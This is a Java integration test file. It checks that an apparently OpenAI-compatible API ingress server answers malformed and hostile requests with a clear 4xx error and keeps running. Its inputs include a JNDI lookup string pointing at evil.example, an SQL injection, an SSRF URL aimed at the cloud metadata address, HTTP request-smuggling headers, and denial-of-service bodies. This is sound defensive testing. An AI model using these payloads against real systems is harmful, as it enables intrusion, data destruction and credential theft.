package io.chorus.ingress;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.chorus.ingress.Caller.Reply;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever comes in, the answer is a clear 4xx, and the server goes on. */
@ExtendWith(IngressKit.class)
@Timeout(60)
class BadInputIT {
  private static final String GOOD =
      "{\"messages\":[{\"role\":\"user\",\"content\":\"The answer?\"}],\"temperature\":0.5}";

  private static IngressServer server;
  private static Caller caller;

  @BeforeAll
  static void start(IngressKit.Parts parts) throws Exception {
    server = IngressServer.start(parts.config());
    caller = new Caller(server);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  private static Map<String, byte[]> bodies() {
    Map<String, String> texts = new LinkedHashMap<>();
    texts.put("deep arrays", "{\"prompt\":" + "[".repeat(50_000) + "]".repeat(50_000) + "}");
    texts.put("deep objects", "{\"metadata\":".repeat(5_000) + "1" + "}".repeat(5_000));
    texts.put("open arrays", "[".repeat(100_000));
    texts.put("a huge number", "{\"prompt\":\"x\",\"temperature\":" + "9".repeat(100_000) + "}");
    texts.put("a huge exponent", "{\"prompt\":\"x\",\"temperature\":1e999999999}");
    texts.put("a large whole", "{\"prompt\":\"x\",\"max_tokens\":99999999999999999999}");
    texts.put("no number", "{\"prompt\":\"x\",\"temperature\":NaN}");
    texts.put("a lone surrogate", "{\"prompt\":\"\\ud800\",\"lane\":\"\\udc00\"}");
    texts.put("many keys", manyKeys());
    texts.put("a long key", "{\"" + "k".repeat(100_000) + "\":1}");
    texts.put("the same key twice", "{\"prompt\":\"x\",\"prompt\":\"y\"}");
    texts.put("two documents", "{\"prompt\":\"x\"}{\"prompt\":\"y\"}");
    texts.put("a comment", "{/* */\"prompt\":\"x\"}");
    texts.put("single quotes", "{'prompt':'x'}");
    texts.put("nothing", "");
    texts.put("zeroes", "\0\0\0\0");
    texts.put("a template", "{\"prompt\":\"x\",\"lane\":\"${jndi:ldap://evil.example/a}\"}");
    texts.put("a statement", "{\"prompt\":\"x\",\"lane\":\"'; DROP TABLE tasks; --\"}");
    texts.put("a base URL", "{\"prompt\":\"x\",\"base_url\":\"http://169.254.169.254/\"}");
    texts.put("a callback", "{\"prompt\":\"x\",\"webhook\":\"http://127.0.0.1:5432/\"}");
    texts.put(
        "an image", "{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\"}]}]}");
    Map<String, byte[]> bodies = new LinkedHashMap<>();
    texts.forEach((name, text) -> bodies.put(name, text.getBytes(UTF_8)));
    bodies.put("bad UTF-8", "{\"prompt\":\"\u00ff\u00fe\u00c0\"}".getBytes(ISO_8859_1));
    bodies.put("overlong UTF-8", "{\"prompt\":\"\u00c0\u0080\"}".getBytes(ISO_8859_1));
    bodies.put("a gzip bomb's head", new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0});
    return bodies;
  }

  private static String manyKeys() {
    StringBuilder body = new StringBuilder("{\"prompt\":\"x\"");
    for (int i = 0; i < 50_000; i++) {
      body.append(",\"k").append(i).append("\":1");
    }
    return body.append('}').toString();
  }

  @TestFactory
  Stream<DynamicTest> aBadBodyIsRefusedInOpenAisForm() {
    return Stream.of("/v1/chat/completions", "/v1/tasks")
        .flatMap(
            path ->
                bodies().entrySet().stream()
                    .map(
                        body ->
                            DynamicTest.dynamicTest(
                                path + " " + body.getKey(),
                                () -> isRefused(path, body.getValue()))));
  }

  @Test
  void aPromptOfTooManyTokensIsRefusedAsOpenAiRefusesIt() throws Exception {
    String book = "{\"prompt\":\"" + "字".repeat(300_001) + "\"}";

    for (String path : List.of("/v1/chat/completions", "/v1/tasks")) {
      Reply reply = caller.post(path, book);

      assertThat(reply.status()).isEqualTo(400);
      assertThat(reply.error().path("type").asText()).isEqualTo("invalid_request_error");
      assertThat(reply.error().path("code").asText()).isEqualTo("context_length_exceeded");
      assertThat(reply.error().path("param").asText()).isEqualTo("prompt");
      assertThat(reply.error().path("message").asText())
          .isEqualTo("'prompt' has about 200,001 tokens; allowed: at most 200,000 tokens");
    }
  }

  @ParameterizedTest
  @CsvSource({
    "POST, /v1/batches, 65536",
    "POST, /v1/batches/mine/move, 65536",
    "POST, /v1/keys, 65536",
    "POST, /v1/keys/mine/rotate, 65536",
    "POST, /v1/accounts, 65536",
    "POST, /v1/policy, 1048576",
    "POST, /v1/tenants/acme, 65536",
    "PUT,  /v1/budgets/acme, 65536"
  })
  void whatIsNoTaskIsNotLarge(String method, String path, int most) throws Exception {
    Caller operator = new Caller(server.adminUrl(), IngressKit.KEY);
    Caller by = path.startsWith("/v1/batches") ? caller : operator;
    byte[] large = new byte[most + 1];

    Reply reply = by.send(by.request(path).method(method, BodyPublishers.ofByteArray(large)));

    assertThat(reply.status()).isEqualTo(413);
    assertThat(reply.error().path("code").asText()).isEqualTo("request_too_large");
    assertThat(reply.error().path("message").asText()).contains("allowed: " + most + " bytes");
  }

  private static void isRefused(String path, byte[] body) throws Exception {
    Reply reply = caller.post(path, BodyPublishers.ofByteArray(body));

    assertThat(reply.status()).isEqualTo(400);
    assertThat(reply.error().path("type").asText()).isEqualTo("invalid_request_error");
    assertThat(reply.error().path("message").asText()).contains("allowed: ");
    assertThat(reply.error().has("param")).isTrue();
    assertThat(reply.error().has("code")).isTrue();
    assertThat(reply.header("x-request-id")).isNotBlank();
  }

  @ParameterizedTest
  @CsvSource({
    "GET,    /v1/tasks/%00",
    "GET,    /v1/tasks/a%00b/events",
    "POST,   /v1/tasks/%00/cancel",
    "GET,    /v1/files/%00",
    "GET,    /v1/files/%00/content",
    "DELETE, /v1/files/%00",
    "GET,    /v1/batches/%00",
    "POST,   /v1/batches/%00/cancel",
    "POST,   /v1/batches/b%00/pause",
    "GET,    /v1/models/%00",
    "GET,    /v1/tasks?metadata%5B%00%5D=x",
    "GET,    /v1/tasks?batch=%00"
  })
  void aNameThatNoDatabaseTakesIsNotLookedFor(String method, String path) throws Exception {
    Reply reply =
        caller.send(
            caller
                .request(path)
                .header("Content-Type", "application/json")
                .method(method, BodyPublishers.noBody()));

    assertThat(reply.status()).isIn(400, 404);
    assertThat(reply.error().path("message").asText()).isNotBlank();
  }

  @ParameterizedTest
  @CsvSource({"false, /v1/batches, input_file_id", "true, /v1/keys, name"})
  void aTextThatNoDatabaseTakesIsRefusedByField(boolean admin, String path, String field)
      throws Exception {
    Caller operator = admin ? new Caller(server.adminUrl(), IngressKit.KEY) : caller;
    Reply text = operator.post(path, "{\"" + field + "\":\"a\\u0000\"}");

    assertThat(text.status()).isEqualTo(400);
    assertThat(text.error().path("message").asText()).contains(field, "U+0000");
  }

  @ParameterizedTest
  @ValueSource(strings = {"\\u0000", "\\ud83d", "x\\ude00"})
  void aLabelThatNoDatabaseTakesIsRefused(String text) throws Exception {
    Reply label =
        caller.post(
            "/v1/batches",
            "{\"input_file_id\":\"file-x\",\"metadata\":{\"a\":\"%s\"}}".formatted(text));

    assertThat(label.status()).isEqualTo(400);
    assertThat(label.error().path("message").asText()).contains("metadata");
  }

  @Test
  void aThousandDamagedBodiesAreNeverTheServersFault() throws Exception {
    Random random = new Random(7);
    byte[] good = GOOD.getBytes(UTF_8);
    for (int i = 0; i < 1_000; i++) {
      byte[] damaged = good.clone();
      for (int hits = 1 + random.nextInt(3); hits > 0; hits--) {
        damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(256);
      }

      Reply reply = caller.post("/v1/tasks", BodyPublishers.ofByteArray(damaged));

      assertThat(reply.status()).as(new String(damaged, ISO_8859_1)).isIn(202, 400);
    }
  }

  @TestFactory
  Stream<DynamicTest> aRequestThatIsNoneIsRefusedAndTheServerGoesOn() {
    String head = "POST /v1/tasks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + IngressKit.KEY;
    Map<String, String> requests = new LinkedHashMap<>();
    requests.put("no HTTP", "hello\r\n\r\n");
    requests.put(
        "a length and chunks",
        head + "\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
    requests.put("two lengths", head + "\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\n{}{}");
    requests.put("a negative length", head + "\r\nContent-Length: -1\r\n\r\n");
    requests.put("no length that is one", head + "\r\nContent-Length: x\r\n\r\n");
    requests.put("bad chunks", head + "\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n");
    requests.put("a huge header", head + "\r\nX: " + "x".repeat(20_000) + "\r\n\r\n");
    requests.put("a huge path", "GET /" + "x".repeat(20_000) + " HTTP/1.1\r\nHost: x\r\n\r\n");
    requests.put(
        "a bad path",
        "GET /v1/tasks/%zz HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
            + IngressKit.KEY
            + "\r\nConnection: close\r\n\r\n");
    requests.put(
        "a bad query",
        "GET /v1/tasks?after=%zz HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
            + IngressKit.KEY
            + "\r\nConnection: close\r\n\r\n");
    return requests.entrySet().stream()
        .map(
            request ->
                DynamicTest.dynamicTest(
                    request.getKey(),
                    () -> {
                      assertThat(sent(request.getValue())).matches("(?s)HTTP/1.[01] 4.*");
                      assertThat(caller.get("/v1/models").status()).isEqualTo(200);
                    }));
  }

  private static String sent(String request) throws IOException {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), server.port())) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write(request.getBytes(UTF_8));
      ByteArrayOutputStream reply = new ByteArrayOutputStream();
      InputStream in = socket.getInputStream();
      for (int b = in.read(); b >= 0 && reply.size() < 12; b = in.read()) {
        reply.write(b);
      }
      return reply.toString(UTF_8);
    }
  }

  @Test
  void aLookUpThatIsRefusedKeepsItsConnection() throws Exception {
    String request =
        "GET /v1/tasks?limit=0 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + IngressKit.KEY;
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), server.port())) {
      socket.setSoTimeout(10_000);
      String both = request + "\r\n\r\n" + request + "\r\nConnection: close\r\n\r\n";
      socket.getOutputStream().write(both.getBytes(UTF_8));

      String replies = new String(socket.getInputStream().readAllBytes(), UTF_8);

      assertThat(replies.split("HTTP/1.1 400 ", -1)).hasSize(3);
    }
  }

  @Test
  void aCompressedBodyIsNotTaken() throws Exception {
    Reply reply =
        caller.send(
            caller
                .request("/v1/tasks")
                .header("Content-Type", "application/json")
                .header("Content-Encoding", "gzip")
                .POST(BodyPublishers.ofByteArray(new byte[] {0x1f, (byte) 0x8b, 8, 0})));

    assertThat(reply.status()).isEqualTo(415);
    assertThat(reply.error().path("message").asText()).contains("Content-Encoding");
  }
}
